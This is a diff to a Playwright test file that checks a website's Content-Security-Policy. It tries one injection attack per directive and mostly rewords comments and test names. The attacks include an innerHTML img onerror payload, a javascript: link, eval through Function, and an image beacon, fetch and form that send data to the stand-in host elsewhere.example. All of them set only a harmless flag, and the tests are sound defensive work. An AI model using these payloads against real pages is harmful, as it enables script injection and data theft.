@@ -1,8 +1,8 @@
 import type { Page, Route } from '@playwright/test'
 import { expect, test } from '../helpers/local-site-fixture.ts'
 
-/* What somebody would try who can write into a page. Each leaves `attacked` behind where it gets through. One way for
-   each directive: that none of them takes a keyword or a wildcard, build/policy.test.ts. */
+/* Injection attacks, one for each directive of the Content-Security-Policy. An attack that succeeds sets `attacked`.
+   build/policy.test.ts checks that no directive allows unsafe keywords or wildcards. */
 
 const elsewhere = 'https://elsewhere.example'
 
@@ -18,7 +18,7 @@ const attacks: Record<string, (elsewhere: string) => unknown> = {
     document.head.append(script)
   },
   'an event handler': () => document.body.setAttribute('onclick', 'globalThis.attacked = true'),
-  // Later: what a driven browser evaluates itself may do so.
+  // In a timer, because code that Playwright evaluates directly may use eval.
   'code from a string': () => setTimeout(() => Reflect.construct(Function, ['globalThis.attacked = true'])()),
   'markup from a string': () => {
     document.body.innerHTML = '<img src=x onerror="globalThis.attacked = true">'
@@ -28,7 +28,7 @@ const attacks: Record<string, (elsewhere: string) => unknown> = {
     frame.src = `${elsewhere}/`
     document.body.append(frame)
   },
-  'a link that runs': () => {
+  'a javascript: link': () => {
     const link = document.createElement('a')
     link.href = 'javascript:globalThis.attacked = true'
     document.body.append(link)
@@ -45,7 +45,7 @@ const attacks: Record<string, (elsewhere: string) => unknown> = {
     link.href = `${elsewhere}/attack.css`
     document.head.append(link)
   },
-  'a picture of another site, which would carry words away': (elsewhere) => {
+  'an image request that leaks data to another site': (elsewhere) => {
     new Image().src = `${elsewhere}/?words`
   },
   'a request to another site': (elsewhere) => fetch(`${elsewhere}/?words`),
@@ -56,7 +56,7 @@ const attacks: Record<string, (elsewhere: string) => unknown> = {
     document.head.append(base)
     if (document.baseURI.startsWith(elsewhere)) Object.assign(globalThis, { attacked: true })
   },
-  'a form that sends elsewhere': (elsewhere) => {
+  'a form that submits to another site': (elsewhere) => {
     const form = document.createElement('form')
     form.action = elsewhere
     form.method = 'post'
@@ -65,10 +65,10 @@ const attacks: Record<string, (elsewhere: string) => unknown> = {
   },
 }
 
-// On the page with the most script. That every document has the same policy: build/policy.test.ts.
+// Only on /schedule, which has the most script: build/policy.test.ts checks that every document has the same policy.
 for (const headers of [true, false]) {
   const host = headers ? 'a host' : 'a host that drops the headers'
-  test(`nothing gets into the page from ${host}`, async ({ page, context, site, troubles }) => {
+  test(`the policy stops every attack on ${host}`, async ({ page, context, site, troubles }) => {
     test.slow()
     troubles.allow(/./)
     const asked: string[] = []
@@ -76,7 +76,7 @@ for (const headers of [true, false]) {
       asked.push(route.request().url())
       return route.fulfill({ body: 'globalThis.attacked = true', contentType: 'text/javascript' })
     })
-    // Documents alone have a policy; they have no ending.
+    // Only documents have a policy, and their paths have no extension.
     const isDocument = ({ origin, pathname }: URL) => origin === site.url && !pathname.includes('.')
     if (!headers) await context.route(isDocument, withoutPolicy)
     for (const [name, run] of Object.entries(attacks)) {
@@ -90,7 +90,7 @@ for (const headers of [true, false]) {
   })
 }
 
-test('no page is shown in a frame of another site', async ({ page, site, troubles }) => {
+test('another site cannot frame a page', async ({ page, site, troubles }) => {
   troubles.allow(/./)
   await page.route(`${elsewhere}/`, (route) =>
     route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.url}/"></iframe>` }),
@@ -105,7 +105,7 @@ async function withoutPolicy(route: Route): Promise<void> {
   await route.fulfill({ response, headers })
 }
 
-/** What is left of an attack on the page that is open. */
+/** Runs an attack on the open page. @returns whether it was refused, and what it left behind */
 async function attack(page: Page, run: (elsewhere: string) => unknown) {
   const refusal = page.evaluate(
     () =>
@@ -114,7 +114,7 @@ async function attack(page: Page, run: (elsewhere: string) => unknown) {
         setTimeout(resolve, 10_000, false)
       }),
   )
-  // Half of them throw; what counts is what they leave behind.
+  // Some attacks throw; only their effects matter.
   await page.evaluate(run, elsewhere).catch(() => {})
   await page.locator('body').click({ position: { x: 1, y: 1 }, force: true })
   const refused = await refusal
